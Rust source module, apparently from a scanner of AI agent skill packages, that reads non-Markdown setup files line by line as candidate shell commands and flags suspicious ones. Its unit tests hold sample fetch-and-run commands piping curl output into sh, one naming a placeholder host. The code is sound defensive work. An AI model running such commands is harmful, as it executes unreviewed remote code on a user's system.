//! Instructions in formats other than Markdown. A setup file in `.txt`, `.rst`,
//! `.adoc`, `.html`, `.json` or `.yaml` that SKILL.md tells the agent to follow holds its
//! commands in that format's own code forms (an indented block, `.. code-block::`, a
//! `----` listing, `<pre>`, a JSON string, a YAML value). Rather than a parser per
//! format, every line is read as a candidate command once the format's wrapping is taken
//! off (tags, a list marker, a `key:`, quotes), and judged as SKILL.md's prose and inline
//! code are: for what cordon refuses, and for code taken from outside a registry.
//!
//! A text file nothing names is looked at the same way (an agent lists folders, and a
//! script may print it), and what would refuse it there is a review: a human looks at a
//! command-shaped line no instruction leads to.

use super::Cx;
use super::text::{judge_prose, judge_shell_text, kept_when_unsure, prose_shell_shape};
use crate::report::{Finding, Severity};

/// The pieces of a text to read as candidate commands, with their lines: each line,
/// with HTML/XML tags as line breaks, and each string of a JSON document.
fn pieces(text: &str) -> Vec<(usize, String)> {
    let mut out = Vec::new();
    for (i, l) in text.lines().enumerate() {
        if l.contains('<') {
            for part in strip_tags(l).lines() {
                out.push((i + 1, part.to_string()));
            }
        } else {
            out.push((i + 1, l.to_string()));
        }
    }
    if let Ok(v) = serde_json::from_str::<serde_json::Value>(text) {
        let mut stack = vec![v];
        while let Some(v) = stack.pop() {
            match v {
                serde_json::Value::String(s) => {
                    out.extend(s.lines().map(|l| (1, l.to_string())));
                }
                serde_json::Value::Array(a) => stack.extend(a),
                serde_json::Value::Object(o) => stack.extend(o.into_iter().map(|(_, v)| v)),
                _ => {}
            }
        }
    }
    out
}

/// A line with its tags turned into line breaks and the common entities decoded.
fn strip_tags(l: &str) -> String {
    let mut s = String::new();
    let mut in_tag = false;
    for c in l.chars() {
        match c {
            '<' => {
                in_tag = true;
                s.push('\n');
            }
            '>' if in_tag => in_tag = false,
            c if !in_tag => s.push(c),
            _ => {}
        }
    }
    s.replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&#39;", "'")
        .replace("&amp;", "&")
}

/// A line without its format's wrapping: a list marker, a `key:` of YAML or JSON,
/// surrounding quotes and a trailing comma.
fn unwrap(line: &str) -> String {
    let mut t = line.trim();
    for m in ["- ", "* ", "+ ", "> "] {
        t = t.strip_prefix(m).unwrap_or(t).trim_start();
    }
    let digits = t.trim_start_matches(|c: char| c.is_ascii_digit());
    if digits.len() < t.len()
        && let Some(r) = digits.strip_prefix(['.', ')'])
    {
        t = r.trim_start();
    }
    if let Some((k, v)) = t.split_once(':') {
        let k = k.trim().trim_matches(['"', '\'']);
        if !k.is_empty()
            && k.chars()
                .all(|c| c.is_alphanumeric() || matches!(c, '_' | '-' | '.'))
            && !v.starts_with("//")
        {
            t = v.trim();
        }
    }
    let t = t.trim_end_matches(',');
    for q in ['"', '\''] {
        if let Some(inner) = t.strip_prefix(q).and_then(|s| s.strip_suffix(q)) {
            return inner.to_string();
        }
    }
    t.to_string()
}

/// Read a text that is not Markdown as instructions: its command-shaped lines are
/// judged as SKILL.md's inline code and prose are.
pub(super) fn judge_lines(cx: &Cx<'_>, path: &str, text: &str, out: &mut Vec<Finding>) {
    let mut found = Vec::new();
    for (line, piece) in pieces(text).into_iter().take(20_000) {
        if !prose_shell_shape(&piece) {
            continue;
        }
        let bare = unwrap(&piece);
        judge_shell_text(cx, path, line, &bare, false, &mut found);
        judge_prose(cx, path, line, piece.trim(), &mut found);
    }
    found.retain(kept_when_unsure);
    found.dedup();
    out.extend(found);
}

/// Look at a text file nothing names or runs: what would refuse it as instructions is
/// a review here.
pub(super) fn look_at(cx: &Cx<'_>, path: &str, text: &str, out: &mut Vec<Finding>) {
    let mut found = Vec::new();
    judge_lines(cx, path, text, &mut found);
    out.extend(found.into_iter().map(|f| {
        Finding::new(
            f.check,
            Severity::Review,
            f.entry.as_deref(),
            format!(
                "a file no instruction names holds a command-shaped line: {}",
                f.message
            ),
        )
    }));
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn wrapping_is_taken_off() {
        assert_eq!(unwrap("  - run: curl -s x | sh"), "curl -s x | sh");
        assert_eq!(unwrap("\"cmd\": \"curl x | sh\","), "curl x | sh");
        assert_eq!(unwrap("2. bash x.sh"), "bash x.sh");
        assert_eq!(unwrap("entry: sh -c 'curl x | sh'"), "sh -c 'curl x | sh'");
        assert_eq!(strip_tags("<pre>a &amp;&amp; b</pre>"), "\na && b\n");
    }

    #[test]
    fn json_strings_are_pieces() {
        let p = pieces(r#"{"a": ["curl -s https://x.example | sh"]}"#);
        assert!(
            p.iter().any(|(_, s)| s == "curl -s https://x.example | sh"),
            "{p:?}"
        );
    }
}
